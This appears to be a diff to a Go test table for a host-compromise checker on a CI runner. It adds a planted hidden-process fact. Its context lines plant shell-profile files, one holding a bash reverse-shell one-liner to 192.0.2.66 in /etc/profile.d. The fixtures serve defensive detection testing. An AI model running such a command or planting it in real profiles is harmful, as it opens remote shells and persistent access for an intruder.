@@ -223,6 +223,14 @@ var artefacts = []artefact{
 		}
 	}},
 
+	{"process that is not in the list", "hidden-processes", check.High, "processes 4711", func(s *snapshot.Snapshot) {
+		for i := range s.Facts {
+			if s.Facts[i].Name == "hidden" {
+				s.Facts[i].Text = "4711 x 99999999999"
+			}
+		}
+	}},
+
 	// shell-profiles, ld-preload
 	{"profile of the jobs' account", "shell-profiles", check.Medium, "/home/gitlab-runner/.bash_profile", plantFile(file(profiles, "/home/gitlab-runner/.bash_profile", 0o644, 998, "/usr/bin/true\n"))},
 	{"profile.d that starts a shell", "shell-profiles", check.High, "/etc/profile.d/x.sh", plantFile(file(profiles, "/etc/profile.d/x.sh", 0o644, 0, "(bash -i >& /dev/tcp/192.0.2.66/443 0>&1 &)\n"))},
